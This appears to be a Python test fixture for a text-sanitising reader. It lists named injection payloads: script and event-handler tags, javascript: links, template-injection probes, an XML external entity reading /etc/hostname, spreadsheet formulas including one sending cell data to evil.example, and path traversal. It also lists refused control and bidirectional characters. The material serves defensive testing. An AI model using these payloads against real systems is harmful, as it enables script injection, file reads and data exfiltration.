"""Texts that try to be more than text, each with a marker for finding it again."""

from generator.packages.safety.characters import unwanted

RUNS = "q9run"
"""The marker of what a payload would do if it ran."""

PAYLOADS = {
    "tags": "<script>q9run()</script>",
    "tag-with-handler": "<img src=x onerror=q9run()>",
    "tag-with-handler-quoted": '<b onmouseover="q9run()" style="color:red">bold</b>',
    "drawing": "<svg onload=q9run()><use href=//evil.example/x.svg#a></use></svg>",
    "drawing-with-script": "<svg><script>q9run()</script></svg>",
    "frame": "<iframe srcdoc='<script>q9run()</script>'></iframe>",
    "form": '<form action="https://evil.example/"><input autofocus onfocus=q9run()>',
    "object": '<object data="javascript:q9run()"></object><embed src=q9run>',
    "meta": '<meta http-equiv=refresh content="0;url=javascript:q9run()">',
    "base": '<base href="https://evil.example/">',
    "style": "<style>@import'https://evil.example/q9run.css'</style>",
    "unfinished-tag": "<img src='https://evil.example/?q9run=",
    "half-closed": "<a href=javascript:q9run() x=<b>",
    "capitals": "<ScRiPt SRC=//evil.example/q9run.js></sCrIpT>",
    "with-slash": "<svg/onload=q9run()>",
    "with-null-entity": "<img/src=&#0;x onerror&#61;q9run()>",
    "comment": "--><img src=x onerror=q9run()><!--",
    "cdata-end": "]]><script>q9run()</script>",
    "xml-entity": "<!DOCTYPE q9run [<!ENTITY x SYSTEM 'file:///etc/hostname'>]>&x;",
    "processing": "<?xml-stylesheet href='https://evil.example/q9run.xsl'?>",
    "script-end": "</script><script>q9run()</script>",
    "script-end-spaced": "</script ><script >q9run()</script >",
    "title-end": "</title></textarea></style></noscript><img src=x onerror=q9run()>",
    "table-end": "</td></tr></table></article></main><script>q9run()</script>",
    "attribute-end": '" onmouseover="q9run()" x="',
    "attribute-end-single": "' onmouseover='q9run()' x='",
    "attribute-end-back-tick": "` onmouseover=`q9run()` x=`",
    "attribute-end-with-tag": '"><script>q9run()</script>',
    "attribute-end-entity": "&quot; onmouseover=&quot;q9run()&quot; &lt;b&gt; &amp;amp;",
    "number-entities": "&#60;script&#62;q9run()&#x3c;/script&#x3e;",
    "json-end": '"}],"q9run":[{"x":"',
    "json-escape": "\\u003cscript\\u003eq9run()\\u003c/script\\u003e \\\\ \\n",
    "javascript-end": "';q9run();//",
    "javascript-template": "`${q9run()}`",
    "address": "javascript:q9run()",
    "address-disguised": "JaVaScRiPt&colon;q9run()//https://",
    "address-data": "data:text/html,<script>q9run()</script>",
    "address-vbscript": "vbscript:q9run()",
    "address-without-scheme": "//evil.example/q9run",
    "slot": "q9run[[ 7*191 ]]",
    "slot-block": "q9run[% for x in (1,3,3,7) %][[ x ]][% endfor %]",
    "slot-of-program": "[[ portal.standards ]] [[ say.__class__ ]] q9run",
    "slot-end": "q9run ]] %] #]] [[# [[",
    "jinja": "q9run{{ 7*191 }}",
    "jinja-block": "q9run{% include 'lists.html' %}{% raw %}{# x #}",
    "dollar": "q9run${7*191} #{7*191} <%= 7*191 %>",
    "python-format": "q9run{0} {name} {name.__class__} %s %(x)s",
    "markdown-link": "[q9run](javascript:q9run())",
    "markdown-picture": "![q9run](https://evil.example/q9run.png)",
    "markdown-attributes": "# q9run {#top onclick=q9run()}",
    "markdown-include": '--8<-- "/etc/hostname" q9run',
    "regular-expression": r"q9run \1 \g<0> $& $1",
    "path": "../../../../q9run.html",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"q9run")',
    "formula-plus": "+q9run|' /C calc'!A0",
    "formula-minus": "-2+3+q9run",
    "formula-at": "@SUM(1+1)*q9run",
    "formula-full-width": "＝q9run()",
    "right-to-left-words": "صندوق q9run التنمية",
    "other-planes": "𝕢9run 😀 <q9run> 你好",
}
"""By name. The reader accepts them, some with a warning, and they must come out unchanged."""

REFUSED = {
    "right-to-left-override": "q9run \u202egnp.exe",
    "isolates": "\u2066q9run\u2069",
    "line-separator": "q9run\u2028q9run()",
    "paragraph-separator": "q9run\u2029q9run()",
    "null": "q9run\x00<b>",
    "escape": "\x1b[31mq9run",
    "bell": "q9run\x07",
    "zero-width": "<scr\u200bipt>q9run()</scr\u200bipt>",
    "private": "\ue000q9run\uf8ff",
    "tag-letters": "q9run\U000e0041\U000e0042",
    "byte-order": "\ufeff<script>q9run()</script>",
}
"""Texts that the reader rejects in any place. They must leave no trace, except escaped in the list of problems."""

assert not any(unwanted(text) for text in PAYLOADS.values())
assert all(unwanted(text) for text in REFUSED.values())
